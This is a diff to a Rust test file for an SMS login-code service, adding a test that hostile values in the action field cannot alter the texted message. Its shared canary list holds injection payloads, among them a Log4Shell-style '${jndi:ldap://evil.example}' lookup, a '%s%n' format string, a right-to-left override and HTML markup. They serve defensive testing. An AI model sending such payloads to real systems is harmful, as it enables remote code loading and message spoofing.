@@ -169,22 +169,23 @@ async fn hostile_bodies() {
     );
 }
 
+const INJECTED: [&str; 8] = [
+    "evil.example/pay",
+    "{code}",
+    "{brand}",
+    "%s%n",
+    "\n@evil.example #000000",
+    "\u{202e}evil",
+    "${jndi:ldap://evil.example}",
+    "<b>evil</b>",
+];
+
 #[tokio::test]
 async fn content_injection() {
     let world = World::start().await;
-    let canaries = [
-        "evil.example/pay",
-        "{code}",
-        "{brand}",
-        "%s%n",
-        "\n@evil.example #000000",
-        "\u{202e}evil",
-        "${jndi:ldap://evil.example}",
-        "<b>evil</b>",
-    ];
     let good = json!({ "uniqueId": "d", "businessId": "login" });
     let mut texted = 0;
-    for (n, canary) in canaries.into_iter().enumerate() {
+    for (n, canary) in INJECTED.into_iter().enumerate() {
         for (m, field) in ["businessId", "locale", "action", "uniqueId", "region"]
             .into_iter()
             .enumerate()
@@ -217,4 +218,53 @@ async fn content_injection() {
         }
     }
     assert!(texted >= 8, "{texted} texts were compared");
+}
+
+/// Where texts show the action, a caller chooses among the labels of the policy and adds nothing to them.
+#[tokio::test]
+async fn content_injection_by_the_action() {
+    let template =
+        "{code} is your {brand} login code. It works for {minutes} minutes. Never share it.";
+    let labels = "\n[business.login.actions]\npay.en = \"pay\"\nother.en = \"confirm\"\n";
+    let world = World::builder()
+        .policy(template, "{code} to {action}. Never share it.")
+        .policy_addition(labels)
+        .start()
+        .await;
+    let mut texted = 0;
+    for (n, canary) in INJECTED.into_iter().enumerate() {
+        let forms = [
+            (canary.to_owned(), "confirm"),
+            (format!("pay:{canary}"), "pay"),
+            (format!("pay {canary}"), "confirm"),
+            (format!("{canary}:pay"), "confirm"),
+            (format!("other:{canary}"), "confirm"),
+        ];
+        for (m, (action, label)) in forms.into_iter().enumerate() {
+            let number = phone(u32::try_from(10 * n + m).expect("small"));
+            let body = json!({
+                "phone": number, "uniqueId": format!("d{n}{m}"), "businessId": "login", "action": action,
+            });
+            let source = address(10 * n + m);
+            let headers = [("x-test-source-ip", source.as_str())];
+            let answer = world.client.post_with("/v1/send", &body, &headers).await;
+            // An action with control characters is malformed, so nothing is texted.
+            let expected = if action.chars().any(char::is_control) {
+                400
+            } else {
+                202
+            };
+            assert_eq!(answer.status, expected, "{action:?}: {}", answer.text);
+            for text in world.texts(&number) {
+                let code = world.code(&number);
+                assert_eq!(
+                    text.body,
+                    format!("{code} to {label}. Never share it."),
+                    "{action:?}"
+                );
+                texted += 1;
+            }
+        }
+    }
+    assert_eq!(texted, 35, "7 of the 8 canaries in 5 places");
 }
